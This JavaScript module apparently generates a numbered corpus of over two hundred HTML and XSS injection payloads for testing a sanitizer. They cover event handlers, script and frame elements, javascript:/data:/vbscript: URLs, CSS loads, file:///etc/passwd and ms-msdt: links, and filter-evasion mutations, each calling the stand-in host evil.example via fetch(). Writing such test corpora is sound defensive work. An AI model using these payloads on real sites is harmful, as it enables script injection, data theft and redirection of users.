// What strangers put into HTML to run something, to load something, or to lead its reader away: over two hundred ways, made of what runs,
// what loads, what hides it, and where it stands. Each names itself in what it would run or load.

const RUN = (n) => `window.top.ran=${n};fetch('https://evil.example/${n}')`
const EVIL = (n) => `https://evil.example/${n}`

/** An attribute that runs something, on an element that fires it by itself. */
const HANDLERS = [
  ['img', 'src=x onerror'], ['img', 'src=x onload'], ['svg', 'onload'], ['body', 'onload'], ['body', 'onpageshow'], ['video', 'src=x onerror'], ['audio', 'src=x onerror'], ['video', 'src=x onloadstart'],
  ['input', 'autofocus onfocus'], ['select', 'autofocus onfocus'], ['textarea', 'autofocus onfocus'], ['button', 'autofocus onfocus'], ['details', 'open ontoggle'], ['marquee', 'onstart'], ['object', 'data=x onerror'],
  ['embed', 'src=x onload'], ['iframe', 'onload'], ['frameset', 'onload'], ['div', 'onmouseover'], ['div', 'onclick'], ['a', 'onfocus tabindex=1'], ['p', 'style="animation:x" onanimationstart'], ['div', 'contenteditable onfocus'],
  ['form', 'onsubmit'], ['table', 'onclick'], ['style', 'onload'], ['script', 'src=x onerror'], ['link', 'rel=stylesheet href=x onerror'], ['meta', 'onload'], ['math', 'onclick'], ['keygen', 'autofocus onfocus'], ['bgsound', 'onload'],
]

/** An element that runs or loads by itself. */
const ELEMENTS = (n) => [
  `<script>${RUN(n)}</script>`, `<script src="${EVIL(n)}"></script>`, `<script type=module>${RUN(n)}</script>`, `<svg><script>${RUN(n)}</script></svg>`, `<math><script>${RUN(n)}</script></math>`,
  `<iframe src="${EVIL(n)}"></iframe>`, `<iframe srcdoc="<script>${RUN(n)}</script>"></iframe>`, `<iframe src="javascript:${RUN(n)}"></iframe>`, `<object data="${EVIL(n)}"></object>`, `<object data="javascript:${RUN(n)}"></object>`,
  `<embed src="${EVIL(n)}">`, `<embed src="javascript:${RUN(n)}">`, `<link rel=stylesheet href="${EVIL(n)}">`, `<link rel=prefetch href="${EVIL(n)}">`, `<link rel=preconnect href="${EVIL(n)}">`, `<link rel=dns-prefetch href="//evil.example">`,
  `<link rel=icon href="${EVIL(n)}">`, `<style>@import url("${EVIL(n)}");</style>`, `<style>body{background:url("${EVIL(n)}")}</style>`, `<style>@font-face{font-family:x;src:url("${EVIL(n)}")}p{font-family:x}</style>`,
  `<p style="background:url(${EVIL(n)})">x</p>`, `<p style="background-image:url('${EVIL(n)}')">x</p>`, `<div style="list-style:url(${EVIL(n)})">x</div>`, `<p style="width:expression(${RUN(n)})">x</p>`, `<p style="behavior:url(${EVIL(n)})">x</p>`,
  `<p style="-moz-binding:url(${EVIL(n)})">x</p>`, `<p style="position:fixed;inset:0;background:#fff">over it</p>`, `<img src="${EVIL(n)}">`, `<img srcset="${EVIL(n)} 1x">`, `<picture><source srcset="${EVIL(n)}"><img></picture>`, `<image src="${EVIL(n)}">`,
  `<svg><image href="${EVIL(n)}"/></svg>`, `<svg><use href="${EVIL(n)}#x"/></svg>`, `<svg><a href="javascript:${RUN(n)}"><text y=20>x</text></a></svg>`, `<svg><animate attributeName=href values="javascript:${RUN(n)}"/></svg>`, `<svg><foreignObject><script>${RUN(n)}</script></foreignObject></svg>`,
  `<video src="${EVIL(n)}" autoplay></video>`, `<video poster="${EVIL(n)}"></video>`, `<audio src="${EVIL(n)}" autoplay></audio>`, `<track src="${EVIL(n)}">`, `<source src="${EVIL(n)}">`, `<input type=image src="${EVIL(n)}">`, `<body background="${EVIL(n)}">`,
  `<table background="${EVIL(n)}"><tr><td background="${EVIL(n)}">x</table>`, `<bgsound src="${EVIL(n)}">`, `<meta http-equiv=refresh content="0;url=${EVIL(n)}">`, `<meta http-equiv=refresh content="0;url=javascript:${RUN(n)}">`, `<meta http-equiv=set-cookie content="a=b">`, `<base href="${EVIL(n)}/">`,
  `<form action="${EVIL(n)}" id=f><input name=a><button>go</button></form>`, `<form id=g></form><button form=g formaction="${EVIL(n)}">go</button>`, `<isindex action="${EVIL(n)}">`, `<frameset><frame src="${EVIL(n)}"></frameset>`, `<applet code="${EVIL(n)}"></applet>`, `<portal src="${EVIL(n)}"></portal>`,
  `<fencedframe></fencedframe>`, `<dialog open>in the way</dialog>`, `<template><script>${RUN(n)}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN(n)}>"></noscript>`, `<xml id=x><a>x</a></xml>`, `<?xml-stylesheet href="${EVIL(n)}"?>`, `<!ENTITY x SYSTEM "${EVIL(n)}">`,
  `<![CDATA[<script>${RUN(n)}</script>]]>`, `<!--><script>${RUN(n)}</script>-->`, `<!--[if IE]><script>${RUN(n)}</script><![endif]-->`, `<title><img src=x onerror=${RUN(n)}></title>`, `<textarea><script>${RUN(n)}</script></textarea>`, `<xmp><script>${RUN(n)}</script></xmp>`, `<plaintext><script>${RUN(n)}</script>`,
  `<listing>&lt;img src=x onerror=${RUN(n)}&gt;</listing>`, `<a ping="${EVIL(n)}" href="#">x</a>`, `<a href="#" target=_top>x</a>`, `<p id=body name=body>x</p>`, `<img name=cookie><form name=document></form>`, `<slot name=x></slot>`, `<div is=x-evil>x</div>`, `<p lang="&quot;><script>${RUN(n)}</script>">x</p>`,
]

/** Where a link would lead. */
const LINKS = (n) => [
  `javascript:${RUN(n)}`, `JaVaScRiPt:${RUN(n)}`, `java\tscript:${RUN(n)}`, `java&#10;script:${RUN(n)}`, `&#106;avascript:${RUN(n)}`, `&#x6A;avascript:${RUN(n)}`, ` javascript:${RUN(n)}`, `\u0001javascript:${RUN(n)}`, `vbscript:${RUN(n)}`,
  `data:text/html,<script>${RUN(n)}</script>`, `data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+`, `feed:javascript:${RUN(n)}`, `view-source:${EVIL(n)}`, `file:///etc/passwd`, `blob:${EVIL(n)}`, `about:blank`, `filesystem:${EVIL(n)}`, `intent://evil.example#Intent;end`, `ms-msdt:/id x`, `${EVIL(n)}`, `//evil.example/${n}`, `\\\\evil.example\\${n}`,
]

/** What hides a thing from whoever only looks for it as it is usually written. */
const HIDDEN = [
  (html) => html.toUpperCase(), (html) => html.replace('<', '<\u0000'), (html) => html.replace(' ', '/'), (html) => html.replace(' ', '\n\t'), (html) => html.replace('>', ' '), (html) => `<<${html.slice(1)}`, (html) => `"><${html.slice(1)}`,
  (html) => `<div title="${html.replaceAll('"', '&quot;')}">x</div>`, (html) => `<svg><style>${html}</style></svg>`, (html) => `<math><mtext><table><mglyph><style><!--</style>${html}`, (html) => `<noscript>${html}</noscript>`, (html) => `<select><template>${html}</template></select>`,
  (html) => `<form><math><mtext></form><form><mglyph><style></math>${html}`, (html) => html.replaceAll('=', '&#61;'), (html) => `<b><p><b>${html}`, (html) => `<table><tr>${html}<td>`,
]

/** Each with its number, which is in what it would run or load. */
export function hostile() {
  const made = []
  const add = (make) => made.push(make(made.length))
  for (const [element, how] of HANDLERS) add((n) => `<${element} ${how}="${RUN(n)}">x</${element}>`)
  for (let index = 0; index < ELEMENTS(0).length; index += 1) add((n) => ELEMENTS(n)[index])
  for (let index = 0; index < LINKS(0).length; index += 1) {
    add((n) => `<a href="${LINKS(n)[index]}">link ${n}</a>`)
    add((n) => `<area shape=default href="${LINKS(n)[index]}"><img src="${LINKS(n)[index]}">`)
  }
  for (const hide of HIDDEN) {
    add((n) => hide(`<img src=x onerror="${RUN(n)}">`))
    add((n) => hide(`<script>${RUN(n)}</script>`))
    add((n) => hide(`<img src="${EVIL(n)}">`))
    add((n) => hide(`<iframe src="${EVIL(n)}"></iframe>`))
  }
  return made
}
